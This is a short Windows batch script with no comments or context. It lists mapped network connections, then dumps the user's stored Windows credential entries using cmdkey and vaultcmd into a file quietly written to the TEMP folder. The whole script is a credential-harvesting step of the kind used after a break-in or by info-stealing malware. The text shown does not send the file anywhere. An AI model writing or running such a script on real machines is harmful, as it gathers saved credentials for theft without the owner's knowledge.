@echo off
net use
cmdkey /list > "%TEMP%\c.txt"
vaultcmd /listcreds:"Windows Credentials" /all >> "%TEMP%\c.txt"
